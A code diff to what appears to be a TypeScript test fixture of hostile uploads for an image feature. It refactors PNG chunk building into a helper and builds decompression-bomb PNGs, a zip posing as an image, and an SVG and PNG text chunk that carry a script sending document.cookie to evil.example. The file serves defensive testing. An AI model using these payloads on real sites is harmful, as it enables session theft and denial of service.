@@ -1,7 +1,7 @@
 import { Buffer } from "node:buffer";
 import { deflateSync } from "node:zlib";
-import { crc32 } from "../../storage/crc32.ts";
 import { samplePictures } from "./pictures.ts";
+import { pngChunk } from "./png_chunk.ts";
 
 /** A file that somebody sends in the place of a picture. */
 export interface HostileFile {
@@ -22,20 +22,11 @@ export interface HostileFile {
 
 const signature = Buffer.from("\x89PNG\r\n\x1a\n", "latin1");
 
-function chunk(type: string, content: Uint8Array): Buffer {
-  const whole = Buffer.alloc(content.length + 12);
-  whole.writeUInt32BE(content.length);
-  whole.write(type, 4, "latin1");
-  whole.set(content, 8);
-  whole.writeUInt32BE(crc32(whole.subarray(4, -4)), whole.length - 4);
-  return whole;
-}
-
 function header(width: number, height: number): Buffer {
   const content = Buffer.from("00000000000000000800000000", "hex");
   content.writeUInt32BE(width);
   content.writeUInt32BE(height, 4);
-  return chunk("IHDR", content);
+  return pngChunk("IHDR", content);
 }
 
 /** A grey PNG, with chunks of one's own before its pixels. */
@@ -46,14 +37,14 @@ function png(width: number, height: number, ...before: Buffer[]): Buffer {
   const pixels = deflateSync(rows);
   return Buffer.concat([
     ...[signature, header(width, height), ...before],
-    ...[chunk("IDAT", pixels), chunk("IEND", Buffer.alloc(0))],
+    ...[pngChunk("IDAT", pixels), pngChunk("IEND", Buffer.alloc(0))],
   ]);
 }
 
 const side = 64;
 const plain = png(side, side);
 /** As providers' answers are decoded while they arrive from some length on. */
-const long = png(side, side, chunk("caBX", Buffer.alloc(40_000, 7)));
+const long = png(side, side, pngChunk("caBX", Buffer.alloc(40_000, 7)));
 const script = "<script>fetch('//evil.example/?' + document.cookie)</script>";
 const svg = `<svg xmlns="http://www.w3.org/2000/svg" width="64" height="64">${script}</svg>`;
 const zip = Buffer.concat([Buffer.from("PK\x03\x04", "latin1"), Buffer.alloc(200, 1)]);
@@ -139,8 +130,8 @@ export const hostileFiles: HostileFile[] = [
     fileName: "kite.png",
     mediaType: "image/png",
     bytes: Buffer.concat([
-      ...[signature, header(9_000, 9_000), chunk("IDAT", deflateSync(Buffer.alloc(30_000_000)))],
-      chunk("IEND", Buffer.alloc(0)),
+      ...[signature, header(9_000, 9_000), pngChunk("IDAT", deflateSync(Buffer.alloc(30_000_000)))],
+      pngChunk("IEND", Buffer.alloc(0)),
     ]),
     refused: /9000x9000/,
     ofCallersOnly: true,
@@ -151,7 +142,10 @@ export const hostileFiles: HostileFile[] = [
     mediaType: "image/png",
     bytes: png(
       ...[side, side] as const,
-      chunk("zTXt", Buffer.concat([Buffer.from("a\0\0"), deflateSync(Buffer.alloc(30_000_000))])),
+      pngChunk(
+        "zTXt",
+        Buffer.concat([Buffer.from("a\0\0"), deflateSync(Buffer.alloc(30_000_000))]),
+      ),
     ),
     ...kept(plain),
   },
@@ -159,7 +153,7 @@ export const hostileFiles: HostileFile[] = [
     name: "a script in a text",
     fileName: "kite.png",
     mediaType: "image/png",
-    bytes: png(side, side, chunk("tEXt", Buffer.from(`Comment\0${script}`))),
+    bytes: png(side, side, pngChunk("tEXt", Buffer.from(`Comment\0${script}`))),
     ...kept(plain),
   },
   {
